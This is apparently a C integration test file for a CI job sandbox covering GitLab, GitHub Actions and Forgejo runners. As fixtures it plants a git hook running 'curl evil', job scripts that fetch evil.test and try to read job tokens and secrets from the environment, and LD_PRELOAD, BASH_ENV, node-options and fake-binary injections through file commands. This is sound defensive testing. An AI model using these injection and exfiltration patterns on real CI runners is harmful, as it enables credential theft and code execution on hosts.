/* CI integrations, each driven by a replay of its runner (runner.c), as root and as the
 * runner's unprivileged service account, in a test-made network world:
 *   GitLab Runner custom executor — TMPDIR per attempt, the env in the runner's order,
 *     response.json 0600 with the job token, one scriptNNNN/script per stage, exit-code
 *     mapping, a retried preparation, TERM then KILL to the process group, waiting for EOF;
 *   GitHub Actions shell template — {0} quoted and MSVCRT-split, resolved on PATH, file
 *     commands (GITHUB_OUTPUT, GITHUB_ENV, GITHUB_STEP_SUMMARY), the job hooks, and the
 *     SIGINT / SIGTERM 7.5 s later (to the pid) / kill cancel;
 *   Forgejo host mode — the first {0} replaced and POSIX-split, a PTY as stdin in its own
 *     session, the whole environment, SIGKILL to the process group with no grace. */
#define _GNU_SOURCE
#include "runner.h"

#include <cjson/cJSON.h>
#include <dirent.h>
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

TestSuite(ci, .fini = world_cleanup);

#define ARRAY_LEN(a) (sizeof(a) / sizeof((a)[0]))

static void mkdir_as(enum mode m, const char *path, mode_t mode)
{
	cr_assert(mkdir(path, mode) == 0 || errno == EEXIST, "%s", path);
	if (m == ROOTLESS)
		cr_assert(chown(path, 65534, 65534) == 0);
}

static void write_as(enum mode m, const char *path, const char *text, mode_t mode)
{
	write_text(path, text);
	chmod(path, mode);
	if (m == ROOTLESS)
		cr_assert(chown(path, 65534, 65534) == 0);
}

static size_t entries(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	size_t n = 0;

	while (d && (e = readdir(d)))
		n += strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0;
	if (d)
		closedir(d);
	return n;
}

static char *path_env(void)
{
	return cat(cat("PATH=", getenv("CIS_IT_DIR")), ":/usr/local/bin:/usr/bin:/bin");
}

/* ---- GitLab Runner, custom executor ---- */

struct gitlab {
	enum mode m;
	const char *netns;
	char *root, *base, *tmp, *profile;
	const char *env[40];
	int scripts;
};

static void gitlab_setup(struct gitlab *g, enum mode m, const char *netns)
{
	char *resp;
	int n = 0;

	*g = (struct gitlab){.m = m, .netns = netns};
	g->root = tmpdir_for(m);
	g->base = cat(g->root, "/jobs");
	/* One TMPDIR per attempt, the runner's own (0700), with the job JSON and its token. */
	g->tmp = cat(g->root, "/custom-executor123");
	mkdir_as(m, g->tmp, 0700);
	resp = cat(g->tmp, "/response.json");
	write_as(m, resp, "{\"id\": 4242, \"token\": \"glcbt-SECRET-TOKEN\"}", 0600);
	g->profile = cat(g->root, "/gitlab-test.json");
	/* A short kill grace: a process forked just as the cancel's TERM came can miss it (the
	 * shell's child still has the shell's handlers), and then holds the stage for the grace,
	 * which must end before the replay's SIGKILL. */
	write_as(m, g->profile,
	         "{\"extends\": \"gitlab\", \"network\": {\"dns_upstream\": [\"" WORLD_DNS
	         "\"]}, \"limits\": {\"kill_grace\": \"2s\"}}",
	         0644);
	/* The runner's own environment first, then what it adds for the custom executor. */
	g->env[n++] = path_env();
	g->env[n++] = "LANG=C.UTF-8";
	g->env[n++] = "RUNNER_SERVICE_SECRET=hunter2";
	g->env[n++] = "BUILD_FAILURE_EXIT_CODE=1";
	g->env[n++] = "SYSTEM_FAILURE_EXIT_CODE=2";
	g->env[n++] = cat("BUILD_EXIT_CODE_FILE=", cat(g->tmp, "/exit_code"));
	g->env[n++] = cat("JOB_RESPONSE_FILE=", resp);
	g->env[n++] = cat("TMPDIR=", g->tmp);
	g->env[n++] = cat("CISANDBOX_GITLAB_DIR=", g->base); /* job_env of config.toml */
	g->env[n++] = "CUSTOM_ENV_CI_JOB_ID=4242";
	g->env[n++] = "CUSTOM_ENV_CI_RUNNER_ID=7";
	g->env[n++] = "CUSTOM_ENV_CI_PROJECT_ID=99";
	g->env[n++] = "CUSTOM_ENV_CI_CONCURRENT_PROJECT_ID=0";
	g->env[n++] = "CUSTOM_ENV_CI_SERVER_HOST=pkg.allowed.test";
	g->env[n++] = "CUSTOM_ENV_CI_SERVER_PORT=80";
	g->env[n++] = "CUSTOM_ENV_CI_SERVER_PROTOCOL=http";
	g->env[n++] = "CUSTOM_ENV_CI_JOB_TOKEN=glcbt-SECRET-TOKEN";
	g->env[n++] = "CUSTOM_ENV_CI_PROJECT_DIR=/builds/g/p";
	g->env[n] = NULL;
}

/* The runner writes each stage's script to TMPDIR/scriptNNNN/script. */
static char *gitlab_script(struct gitlab *g, const char *body)
{
	char dir[512];

	snprintf(dir, sizeof(dir), "%s/script%04d", g->tmp, ++g->scripts);
	mkdir_as(g->m, dir, 0700);
	write_as(g->m, cat(dir, "/script"), cat("#!/usr/bin/env bash\n", body), 0700);
	return cat(dir, "/script");
}

static void gitlab_call(struct gitlab *g, struct step_result *r, const char *const *args,
                        enum cancel cancel)
{
	const char *argv[12] = {"cisandbox", "gitlab"};
	int a = 2;

	for (; *args; args++)
		argv[a++] = *args;
	argv[a] = NULL;
	step_run(&(struct step){.argv = argv,
	                        .env = g->env,
	                        .cwd = g->tmp,
	                        .as = g->m,
	                        .netns = g->netns,
	                        .cancel = cancel,
	                        .cancel_after = "started"},
	         r);
	cr_assert(r->eof, "stdout/stderr still open after the stage: %s", r->out);
}

DUAL_TEST(ci, gitlab_multi_stage_job, .timeout = 120)
{
	struct world wd;
	struct gitlab g;
	struct step_result r;
	char *job, *leftover, *code, *next, *body;
	cJSON *cfg;

	world_up(&wd);
	gitlab_setup(&g, m, wd.w);
	job = cat(g.base, "/runner-7-project-99-concurrent-0-job-4242");
	code = cat(g.tmp, "/exit_code");

	gitlab_call(&g, &r, ARGS("config"), NO_CANCEL);
	cr_assert_eq(r.status, 0, "%s", r.out);
	cfg = cJSON_Parse(r.out);
	cr_assert(cfg, "config printed no JSON: %s", r.out);
	cr_assert_str_eq(cJSON_GetObjectItem(cfg, "builds_dir")->valuestring, "/builds");
	cr_assert_str_eq(cJSON_GetObjectItem(cfg, "cache_dir")->valuestring, "/cache");
	cr_assert(cJSON_IsFalse(cJSON_GetObjectItem(cfg, "builds_dir_is_shared")));
	cJSON_Delete(cfg);
	step_result_free(&r);

	/* Preparation, retried: the second attempt starts from nothing. */
	gitlab_call(&g, &r, ARGS("prepare"), NO_CANCEL);
	cr_assert_eq(r.status, 0, "%s", r.out);
	step_result_free(&r);
	leftover = cat(job, "/builds/leftover-from-attempt-1");
	write_as(m, leftover, "x", 0644);
	gitlab_call(&g, &r, ARGS("prepare"), NO_CANCEL);
	cr_assert_eq(r.status, 0, "%s", r.out);
	cr_assert(access(leftover, F_OK) != 0, "the retried preparation kept %s", leftover);
	step_result_free(&r);

	/* get_sources writes the checkout; it can reach the GitLab server (by name), and
	 * nothing of the runner: not the job JSON, not TMPDIR, not the next script, not the
	 * runner's environment or the CUSTOM_ENV_ variables. */
	next = cat(g.tmp, "/script0003/script");
	body = NULL;
	cr_assert(asprintf(&body,
	                   "set -e\nmkdir -p /builds/g/p && cd /builds/g/p\n"
	                   "echo 'int main(void) { return 7; }' > main.c\n" FETCH
	                   "pkg.allowed.test 80\n" FETCH "evil.test 80\n"
	                   "cat %s/response.json 2>/dev/null && echo LEAK || echo token hidden\n"
	                   "cat %s 2>/dev/null && echo LEAK || echo next script hidden\n"
	                   "ls %s 2>/dev/null && echo LEAK || echo tmpdir hidden\n"
	                   "env | grep -E 'hunter2|CUSTOM_ENV|glcbt|JOB_RESPONSE' && echo LEAK "
	                   "|| echo env clean\n",
	                   g.tmp, next, g.tmp) > 0);
	gitlab_call(
	    &g, &r,
	    ARGS("run", "--profile", g.profile, gitlab_script(&g, "true\n"), "prepare_script"),
	    NO_CANCEL);
	cr_assert_eq(r.status, 0, "%s", r.out);
	step_result_free(&r);
	gitlab_call(&g, &r,
	            ARGS("run", "--profile", g.profile, gitlab_script(&g, body), "get_sources"),
	            NO_CANCEL);
	cr_assert_eq(r.status, 0, "%s", r.out);
	cr_assert(strstr(r.out, "hello 198.51.100.10:80\ngaierror\ntoken hidden\n"
	                        "next script hidden\ntmpdir hidden\nenv clean\n"),
	          "%s", r.out);
	step_result_free(&r);

	/* build_script sees get_sources' files; its exit status 7 reaches the runner through the
	 * exit-code file, with exit BUILD_FAILURE_EXIT_CODE. */
	gitlab_call(&g, &r,
	            ARGS("run", "--profile", g.profile,
	                 gitlab_script(&g, "cd /builds/g/p\ncat main.c\nexit 7\n"), "build_script"),
	            NO_CANCEL);
	cr_assert_eq(r.status, 1, "%s", r.out);
	cr_assert(strstr(r.out, "int main(void) { return 7; }"), "%s", r.out);
	body = read_text(code);
	cr_assert(body && strcmp(body, "7") == 0, "exit code file: %s", body ? body : "(none)");
	step_result_free(&r);

	/* A stage the sandbox cannot run is a system failure. */
	gitlab_call(&g, &r, ARGS("run", cat(g.tmp, "/no-such-script"), "after_script"), NO_CANCEL);
	cr_assert_eq(r.status, 2, "%s", r.out);
	step_result_free(&r);

	/* Cleanup, twice (the runner may): the job directory is gone. */
	for (int i = 0; i < 2; i++) {
		gitlab_call(&g, &r, ARGS("cleanup"), NO_CANCEL);
		cr_assert_eq(r.status, 0, "%s", r.out);
		step_result_free(&r);
	}
	cr_assert(access(job, F_OK) != 0, "%s is still there", job);
	world_down(&wd);
	rm_rf(g.root);
}

/* Cancel (or job timeout): SIGTERM to the stage's process group, SIGKILL after the grace.
 * The sandbox ends on the SIGTERM; nothing keeps the runner's pipe open. */
DUAL_TEST(ci, gitlab_cancel_mid_stage, .timeout = 90)
{
	struct world wd;
	struct gitlab g;
	struct step_result r;

	world_up(&wd);
	gitlab_setup(&g, m, wd.w);
	gitlab_call(&g, &r, ARGS("prepare"), NO_CANCEL);
	step_result_free(&r);
	gitlab_call(&g, &r,
	            ARGS("run", "--profile", g.profile,
	                 gitlab_script(&g, m == ROOT ? "echo started\nsleep 3600.25 &\nwait\n"
	                                             : "echo started\nsleep 3600.27 &\nwait\n"),
	                 "build_script"),
	            CANCEL_GITLAB);
	cr_assert_not(r.killed, "the stage outlived SIGTERM and its grace: %s", r.out);
	cr_assert_eq(r.status, 1, "%s", r.out); /* the job died of SIGTERM: a build failure */
	cr_assert_not(host_process_exists(m == ROOT ? "sleep 3600.25" : "sleep 3600.27"),
	              "a job process outlived the cancel");
	step_result_free(&r);
	gitlab_call(&g, &r, ARGS("cleanup"), NO_CANCEL);
	step_result_free(&r);
	world_down(&wd);
	rm_rf(g.root);
}

/* How GitLab's bash shell writes every stage's script: the job's commands go through
 * `: | eval $'...'`, so they run in a subshell of the script's bash. Cancelled, that bash dies
 * of the TERM at once; the trap in the subshell must still run and reach the log. That was a
 * race (lost about one cancel in four): 50 cancels, all with the trap's line. No network world:
 * the stage never leaves the sandbox. */
#define GITLAB_TRAP_SCRIPT                                                                         \
	"set -eo pipefail\nset +o noclobber\n"                                                     \
	": | eval $'trap \"echo TRAP-RAN; exit 0\" TERM\\necho started\\n"                         \
	"sleep 3600.26%d &\\nwait $!\\n'\nexit 0\n"

DUAL_TEST(ci, gitlab_cancel_keeps_subshell_trap, .timeout = 180)
{
	struct gitlab g;
	struct step_result r;
	char script[256], sleep[32];

	/* Root and rootless run side by side: each looks for its own sleep. */
	snprintf(script, sizeof(script), GITLAB_TRAP_SCRIPT, m);
	snprintf(sleep, sizeof(sleep), "sleep 3600.26%d", m);
	gitlab_setup(&g, m, NULL);
	gitlab_call(&g, &r, ARGS("prepare"), NO_CANCEL);
	cr_assert_eq(r.status, 0, "%s", r.out);
	step_result_free(&r);
	for (int i = 0; i < 50; i++) {
		gitlab_call(
		    &g, &r,
		    ARGS("run", "--profile", g.profile, gitlab_script(&g, script), "build_script"),
		    CANCEL_GITLAB);
		cr_assert(strstr(r.out, "started\nTRAP-RAN\n"),
		          "cancel %d: the subshell's trap was cut off: %s", i, r.out);
		cr_assert_not(r.killed, "cancel %d: the stage outlived its grace: %s", i, r.out);
		cr_assert_eq(r.status, 1, "cancel %d: %s", i, r.out); /* bash died of the TERM */
		step_result_free(&r);
	}
	cr_assert(host_process_gone(sleep, 1000), "a job process outlived the cancel");
	gitlab_call(&g, &r, ARGS("cleanup"), NO_CANCEL);
	step_result_free(&r);
	rm_rf(g.root);
}

/* ---- GitHub Actions, self-hosted runner ---- */

struct github {
	enum mode m;
	const char *netns;
	char *root, *work, *ws, *temp, *out_file, *env_file, *summary, *path_file;
	const char *env[40];
	int n_env;
	const char *shell; /* the shell: line, if not GITHUB_SHELL */
};

#define GITHUB_SHELL                                                                               \
	"cisandbox run --profile github --dns-upstream " WORLD_DNS                                 \
	" -- bash --noprofile --norc -eo pipefail {0}"

static void github_setup(struct github *g, enum mode m, const char *netns)
{
	char *cmds;
	int n = 0;

	*g = (struct github){.m = m, .netns = netns};
	g->root = tmpdir_for(m);
	/* The runner's layout: its root with the registration, _work/REPO/REPO, _work/_temp. */
	write_as(m, cat(g->root, "/.runner"), "{\"agentName\": \"r1\"}", 0600);
	write_as(m, cat(g->root, "/.credentials"), "{\"scheme\": \"OAuth\", \"secret\": \"x\"}",
	         0600);
	g->work = cat(g->root, "/_work");
	mkdir_as(m, g->work, 0755);
	mkdir_as(m, cat(g->work, "/repo"), 0755);
	g->ws = cat(g->work, "/repo/repo");
	mkdir_as(m, g->ws, 0755);
	g->temp = cat(g->work, "/_temp");
	mkdir_as(m, g->temp, 0755);
	cmds = cat(g->temp, "/_runner_file_commands");
	mkdir_as(m, cmds, 0755);
	g->out_file = cat(cmds, "/set_output_1");
	g->env_file = cat(cmds, "/set_env_1");
	g->summary = cat(cmds, "/step_summary_1");
	g->path_file = cat(cmds, "/add_path_1");
	g->env[n++] = path_env();
	g->env[n++] = "LANG=C.UTF-8";
	g->env[n++] = "CI=true";
	g->env[n++] = "GITHUB_ACTIONS=true";
	g->env[n++] = cat("GITHUB_WORKSPACE=", g->ws);
	g->env[n++] = cat("RUNNER_WORKSPACE=", cat(g->work, "/repo"));
	g->env[n++] = cat("RUNNER_TEMP=", g->temp);
	g->env[n++] = "RUNNER_OS=Linux";
	g->env[n++] = "INPUT_NAME=world";
	g->env[n++] = "ACTIONS_RUNTIME_TOKEN=runtime-SECRET";
	g->env[n++] = "ACTIONS_ID_TOKEN_REQUEST_TOKEN=oidc-SECRET";
	g->env[n++] = "ACTIONS_ID_TOKEN_REQUEST_URL=https://token.actions.example/oidc";
	g->env[n++] = "GITHUB_TOKEN=ghs_SECRET";
	g->env[n++] = "WORKFLOW_ENV=from-workflow";
	g->env[n++] = cat("GITHUB_OUTPUT=", g->out_file);
	g->env[n++] = cat("GITHUB_ENV=", g->env_file);
	g->env[n++] = cat("GITHUB_STEP_SUMMARY=", g->summary);
	g->env[n++] = cat("GITHUB_PATH=", g->path_file);
	g->n_env = n;
	g->env[n] = NULL;
}

/* One `run:` step: the script goes to RUNNER_TEMP, {0} becomes its quoted path, the line is
 * split with MSVCRT rules and argv[0] found on PATH; the step starts in GITHUB_WORKSPACE. The
 * file-command files are made empty (and the runner's) before the step. */
static void github_step(struct github *g, const char *script, struct step_result *r,
                        enum cancel cancel)
{
	static int n;
	char path[600], *line, *argv[32], *at;
	char *files[] = {g->out_file, g->env_file, g->summary, g->path_file};

	snprintf(path, sizeof(path), "%s/step-%d-%d.sh", g->temp, getpid(), ++n);
	write_as(g->m, path, script, 0644);
	for (size_t i = 0; i < 4; i++)
		write_as(g->m, files[i], "", 0644);
	line = strdup(g->shell ? g->shell : GITHUB_SHELL);
	at = strstr(line, "{0}");
	cr_assert(asprintf(&line, "%.*s\"%s\"%s", (int)(at - line), line, path, at + 3) > 0);
	split_msvcrt(line, argv, 32);
	step_run(&(struct step){.argv = (const char *const *)argv,
	                        .env = g->env,
	                        .cwd = g->ws,
	                        .as = g->m,
	                        .netns = g->netns,
	                        .cancel = cancel,
	                        .cancel_after = "started"},
	         r);
	cr_assert(r->eof, "stdout/stderr still open after the step: %s", r->out);
}

DUAL_TEST(ci, github_steps_and_hooks, .timeout = 120)
{
	struct world wd;
	struct github g;
	struct step_result r;
	char *greeting, *fromenv, *script, *hook_argv[] = {"cisandbox", "github", NULL, NULL};

	world_up(&wd);
	github_setup(&g, m, wd.w);
	/* Step 1: outputs, an env file entry, a summary; no ACTIONS_* secret inside; the
	 * runner's registration out of sight; the workflow's own env passes. */
	github_step(&g,
	            "echo \"greeting=hello from step one\" >> \"$GITHUB_OUTPUT\"\n"
	            "echo \"FROM_STEP_ONE=yes\" >> \"$GITHUB_ENV\"\n"
	            "echo '### it worked' >> \"$GITHUB_STEP_SUMMARY\"\n"
	            "pwd\necho \"$INPUT_NAME $WORKFLOW_ENV\"\n"
	            "env | grep -E '^ACTIONS_|^GITHUB_TOKEN' || echo no runtime or oidc tokens\n"
	            "cat ../../../.credentials ../../../.runner 2>/dev/null || echo registration "
	            "hidden\n"
	            "echo checkout > file.txt\n",
	            &r, NO_CANCEL);
	cr_assert_eq(r.status, 0, "%s", r.out);
	cr_assert(strstr(r.out, cat(g.ws, "\nworld from-workflow\nno runtime or oidc tokens\n"
	                                  "registration hidden\n")),
	          "%s", r.out);
	step_result_free(&r);
	greeting = runner_file_value(g.out_file, "greeting");
	fromenv = runner_file_value(g.env_file, "FROM_STEP_ONE");
	cr_assert(greeting && fromenv, "file commands did not reach the runner");
	cr_assert(strstr(read_text(g.summary), "### it worked"));
	/* Step 2: the runner substitutes ${{ steps.one.outputs.greeting }} and exports
	 * FROM_STEP_ONE. */
	g.env[g.n_env++] = cat("FROM_STEP_ONE=", fromenv);
	g.env[g.n_env] = NULL;
	cr_assert(asprintf(&script,
	                   "echo \"%s\"\necho \"FROM_STEP_ONE=$FROM_STEP_ONE\"\ncat file.txt\n",
	                   greeting) > 0);
	github_step(&g, script, &r, NO_CANCEL);
	cr_assert_eq(r.status, 0, "%s", r.out);
	cr_assert_str_eq(r.out, "hello from step one\nFROM_STEP_ONE=yes\ncheckout\n");
	step_result_free(&r);
	/* A planted hook in a reused checkout, then the job hooks empty the directories. */
	mkdir_as(m, cat(g.ws, "/.git"), 0755);
	mkdir_as(m, cat(g.ws, "/.git/hooks"), 0555);
	write_as(m, cat(g.ws, "/.git/hooks/post-checkout"), "#!/bin/sh\ncurl evil\n", 0755);
	cr_assert(symlink("/etc", cat(g.ws, "/etc-link")) == 0);
	hook_argv[2] = "job-started";
	step_run(
	    &(struct step){
	        .argv = (const char *const *)hook_argv, .env = g.env, .cwd = "/", .as = m},
	    &r);
	cr_assert_eq(r.status, 0, "%s", r.out);
	cr_assert_eq(entries(g.ws), 0, "job-started left the workspace non-empty");
	cr_assert(access("/etc/passwd", F_OK) == 0, "a symlink was followed");
	step_result_free(&r);
	write_as(m, cat(g.ws, "/build.log"), "x", 0644);
	hook_argv[2] = "job-completed";
	step_run(
	    &(struct step){
	        .argv = (const char *const *)hook_argv, .env = g.env, .cwd = "/", .as = m},
	    &r);
	cr_assert_eq(r.status, 0, "%s", r.out);
	cr_assert_eq(entries(g.ws), 0);
	cr_assert_eq(entries(g.temp), 0, "job-completed left RUNNER_TEMP non-empty");
	cr_assert(access(cat(g.root, "/.credentials"), F_OK) == 0, "outside the work dir");
	step_result_free(&r);
	/* A workspace variable pointing outside the runner's _work is refused, not emptied. */
	g.env[4] = cat("GITHUB_WORKSPACE=", g.root);
	step_run(
	    &(struct step){
	        .argv = (const char *const *)hook_argv, .env = g.env, .cwd = "/", .as = m},
	    &r);
	cr_assert_eq(r.status, 1, "%s", r.out);
	cr_assert(strstr(r.out, "refusing to empty"), "%s", r.out);
	cr_assert(access(cat(g.root, "/.credentials"), F_OK) == 0, "emptied the runner's root");
	step_result_free(&r);
	world_down(&wd);
	rm_rf(g.root);
}

/* The runner applying an env file to a later step (NAME=VALUE and NAME<<DELIM ... DELIM). */
static void apply_env_file(struct github *g, const char *file)
{
	char *text = read_text(file), *line, *save = NULL, *delim = NULL;

	for (line = strtok_r(text, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		char *eq = strchr(line, '='), *hd = strstr(line, "<<");

		if (delim) {
			if (strcmp(line, delim) == 0)
				delim = NULL;
			continue;
		}
		if (hd && (!eq || hd < eq))
			delim = hd + 2; /* multi-line values are not needed below */
		else if (eq)
			g->env[g->n_env++] = strdup(line);
	}
	g->env[g->n_env] = NULL;
}

/* shell: mode with the github profile: what a sandboxed step writes to GITHUB_ENV and
 * GITHUB_PATH for later steps loses what would run code outside the sandbox (each removal
 * said on stderr and in the audit log), and a later unsandboxed step runs neither the step's
 * LD_PRELOAD/BASH_ENV nor its fake bash/node. */
DUAL_TEST(ci, github_file_commands_policed, .timeout = 90)
{
	struct world wd;
	struct github g;
	struct step_result r;
	char *marker, *script, *audit, *line, *path;
	const char *later[] = {"/bin/sh", "-c",
	                       "echo \"[$LD_PRELOAD][$BASH_ENV][$FOO]\"; bash -c 'echo real bash'; "
	                       "node -e 'console.log(\"real node\")'",
	                       NULL};

	world_up(&wd);
	github_setup(&g, m, wd.w);
	marker = cat(g.root, "/PWNED");
	audit = cat(g.root, "/audit.jsonl");
	cr_assert(asprintf(&line,
	                   "cisandbox run --profile github --dns-upstream " WORLD_DNS
	                   " --audit-log %s -- bash --noprofile --norc -eo pipefail {0}",
	                   audit) > 0);
	g.shell = line;
	cr_assert(
	    asprintf(&script,
	             "mkdir -p bin\nfor p in bash node; do printf '#!/bin/sh\\ntouch %s\\n' "
	             "> bin/$p; chmod +x bin/$p; done\n"
	             "echo FOO=bar >> \"$GITHUB_ENV\"\n"
	             "echo \"LD_PRELOAD=$PWD/evil.so\" >> \"$GITHUB_ENV\"\n"
	             "printf 'BASH_ENV<<EOF\\n%%s\\nEOF\\n' \"$PWD/evil.sh\" >> \"$GITHUB_ENV\"\n"
	             "echo 'node_options=--require ./evil.js' >> \"$GITHUB_ENV\"\n"
	             "echo 'http_proxy=http://203.0.113.7:80' >> \"$GITHUB_ENV\"\n"
	             "printf 'MULTI<<END\\nline1\\nline2\\nEND\\n' >> \"$GITHUB_ENV\"\n"
	             "echo \"$PWD/bin\" >> \"$GITHUB_PATH\"\n"
	             "echo /usr/local/bin >> \"$GITHUB_PATH\"\necho bin >> \"$GITHUB_PATH\"\n",
	             marker) > 0);
	github_step(&g, script, &r, NO_CANCEL);
	cr_assert_eq(r.status, 0, "%s", r.out);
	for (const char *const *w =
	         (const char *const[]){"GITHUB_ENV: LD_PRELOAD: the dynamic loader",
	                               "GITHUB_ENV: BASH_ENV: bash runs",
	                               "GITHUB_ENV: node_options: options that can load code",
	                               "GITHUB_ENV: http_proxy: a proxy",
	                               "GITHUB_PATH: bin: not a clean absolute path", NULL};
	     *w; w++)
		cr_assert(strstr(r.out, cat("cisandbox: removed from a file command: ", *w)),
		          "%s not reported: %s", *w, r.out);
	cr_assert(strstr(r.out, cat(cat("GITHUB_PATH: ", g.ws), "/bin: the job could write")), "%s",
	          r.out);
	cr_assert_str_eq(read_text(g.env_file), "FOO=bar\nMULTI<<END\nline1\nline2\nEND\n");
	cr_assert_str_eq(read_text(g.path_file), "/usr/local/bin\n");
	cr_assert(strstr(read_text(audit), "\"event\":\"filecmd.drop\""), "no audit event");
	cr_assert(strstr(read_text(audit), "LD_PRELOAD"), "no audit event for LD_PRELOAD");
	step_result_free(&r);
	/* The next step runs on the host, unsandboxed, as the runner prepares it. */
	apply_env_file(&g, g.env_file);
	path = cat(cat("PATH=", strtok(read_text(g.path_file), "\n")), cat(":", g.env[0] + 5));
	g.env[0] = path;
	step_run(&(struct step){.argv = later, .env = g.env, .cwd = g.ws, .as = m}, &r);
	cr_assert_eq(r.status, 0, "%s", r.out);
	cr_assert_str_eq(r.out, "[][][bar]\nreal bash\nreal node\n");
	cr_assert(access(marker, F_OK) != 0, "the step's fake bash or node ran on the host");
	step_result_free(&r);
	world_down(&wd);
	rm_rf(g.root);
}

/* Cancel: SIGINT to the group, SIGTERM 7.5 s later, then a kill. The step ends on the SIGINT. */
DUAL_TEST(ci, github_cancel_first_signal, .timeout = 90)
{
	struct world wd;
	struct github g;
	struct step_result r;

	world_up(&wd);
	github_setup(&g, m, wd.w);
	github_step(&g,
	            m == ROOT ? "echo started\nsleep 3600.52\n" : "echo started\nsleep 3600.53\n",
	            &r, CANCEL_GITHUB);
	cr_assert_not(r.killed, "the step needed more than SIGINT: %s", r.out);
	cr_assert_eq(r.status, 128 + SIGINT, "%s", r.out);
	cr_assert_not(host_process_exists(m == ROOT ? "sleep 3600.52" : "sleep 3600.53"),
	              "a job process outlived the cancel");
	step_result_free(&r);
	world_down(&wd);
	rm_rf(g.root);
}

/* GitHub's SIGINT goes to the step's pid; the step's bash, in `wait`, dies of it at once while
 * the background subshell doing the work runs its cleanup trap: it stops its child (a
 * background job ignores SIGINT; one that was still being forked may have died of it instead,
 * hence `set +e`, as the step runs under `bash -e`), waits for it, then reports. Without the
 * grace that trap lost one cancel in two to four; 50 cancels, all with the trap's line, none
 * needing the SIGTERM. */
#define GITHUB_TRAP_SCRIPT                                                                         \
	"( trap 'set +e; kill $! 2>/dev/null; wait $!; echo TRAP-RAN; exit 0' INT TERM\n"          \
	"  sleep 3600.63%d & echo started; wait $! ) &\nwait\n"

DUAL_TEST(ci, github_cancel_keeps_subshell_trap, .timeout = 180)
{
	struct github g;
	struct step_result r;
	char script[256], sleep[32];

	snprintf(script, sizeof(script), GITHUB_TRAP_SCRIPT, m);
	snprintf(sleep, sizeof(sleep), "sleep 3600.63%d", m);
	github_setup(&g, m, NULL);
	for (int i = 0; i < 50; i++) {
		github_step(&g, script, &r, CANCEL_GITHUB);
		cr_assert(strstr(r.out, "TRAP-RAN\n"),
		          "cancel %d: the subshell's trap was cut off: %s", i, r.out);
		cr_assert_not(r.killed, "cancel %d: the step needed more than SIGINT: %s", i,
		              r.out);
		cr_assert_eq(r.status, 128 + SIGINT, "cancel %d: %s", i, r.out);
		step_result_free(&r);
	}
	cr_assert(host_process_gone(sleep, 1000), "a job process outlived the cancel");
	rm_rf(g.root);
}

/* ---- Forgejo Actions, host mode ---- */

/* act's layout for one job (Forgejo runner v12, act/runner/run_context.go startHostEnvironment):
 * <workdir_parent>/<16 hex>/{hostexecutor,tmp,act/workflow}, workdir_parent $HOME/.cache/act;
 * the file commands and each step's script (workflow/<step id>.sh) in act/workflow; the
 * runner's whole environment copied into the step's, FORGEJO_* beside GITHUB_*. */
struct act {
	enum mode m;
	const char *netns;
	char *home, *job, *ws, *tmp, *wf;
	const char *env[48];
	int n_env;
};

static void act_setup(struct act *a, enum mode m, const char *netns)
{
	static const char *const files[][2] = {
	    {"ENV", "envs.txt"},     {"OUTPUT", "outputcmd.txt"},    {"STATE", "statecmd.txt"},
	    {"PATH", "pathcmd.txt"}, {"STEP_SUMMARY", "SUMMARY.md"}, {"EVENT_PATH", "event.json"}};
	int n = 0;

	*a = (struct act){.m = m, .netns = netns};
	a->home = tmpdir_for(m); /* the runner's home, its registration in its working dir */
	write_as(m, cat(a->home, "/.runner"), "{\"id\": 1, \"token\": \"forgejo-reg-SECRET\"}",
	         0600);
	write_as(m, cat(a->home, "/.bash_history"), "forgejo-runner register --token x\n", 0600);
	mkdir_as(m, cat(a->home, "/.cache"), 0755);
	mkdir_as(m, cat(a->home, "/.cache/act"), 0755);
	a->job = cat(a->home, "/.cache/act/0f1e2d3c4b5a6978");
	mkdir_as(m, a->job, 0755);
	a->ws = cat(a->job, "/hostexecutor");
	a->tmp = cat(a->job, "/tmp");
	a->wf = cat(a->job, "/act/workflow");
	mkdir_as(m, a->ws, 0755);
	mkdir_as(m, a->tmp, 0755);
	mkdir_as(m, cat(a->job, "/act"), 0755);
	mkdir_as(m, a->wf, 0755);
	a->env[n++] = path_env();
	a->env[n++] = cat("HOME=", a->home);
	a->env[n++] = "LANG=C.UTF-8";
	a->env[n++] = "RUNNER_SERVICE_SECRET=hunter2";
	a->env[n++] = "ACT=true";
	a->env[n++] = "CI=true";
	a->env[n++] = "GITHUB_ACTIONS=true";
	a->env[n++] = "FORGEJO_ACTIONS=true";
	a->env[n++] = "GITHUB_TOKEN=forgejo-task-SECRET";
	a->env[n++] = "FORGEJO_TOKEN=forgejo-task-SECRET";
	a->env[n++] = "ACTIONS_RUNTIME_TOKEN=forgejo-task-SECRET";
	a->env[n++] = cat("GITHUB_WORKSPACE=", a->ws);
	a->env[n++] = cat("RUNNER_TEMP=", a->tmp);
	a->env[n++] = cat("RUNNER_TOOL_CACHE=", cat(a->home, "/.cache/act/tool_cache"));
	for (size_t i = 0; i < ARRAY_LEN(files); i++) {
		char *f = cat(cat(a->wf, "/"), files[i][1]);

		write_as(m, f, strcmp(files[i][0], "EVENT_PATH") ? "" : "{}", 0644);
		a->env[n++] = cat(cat(cat("GITHUB_", files[i][0]), "="), f);
		a->env[n++] = cat(cat(cat("FORGEJO_", files[i][0]), "="), f);
	}
	a->n_env = n;
	a->env[n] = NULL;
}

/* One step as act runs it: the five file commands emptied, the script written to
 * workflow/<id>.sh ("\n" + run + "\n", 0755), the first {0} replaced by its path, the line
 * split like a shell, run on a PTY in its own session in hostexecutor/. */
static void act_step(struct act *a, const char *profile, int id, const char *run,
                     struct step_result *r, enum cancel cancel, pid_t *kids)
{
	static const char *const cmds[] = {"envs.txt", "outputcmd.txt", "statecmd.txt",
	                                   "pathcmd.txt", "SUMMARY.md"};
	char *script, *line, *argv[32], *at;

	for (size_t i = 0; i < ARRAY_LEN(cmds); i++)
		write_as(a->m, cat(cat(a->wf, "/"), cmds[i]), "", 0644);
	cr_assert(asprintf(&script, "%s/%d.sh", a->wf, id) > 0);
	write_as(a->m, script, cat(cat("\n", run), "\n"), 0755);
	cr_assert(asprintf(&line,
	                   "cisandbox run --profile %s --dns-upstream " WORLD_DNS
	                   " -- bash --noprofile --norc -e -o pipefail {0}",
	                   profile) > 0);
	at = strstr(line, "{0}");
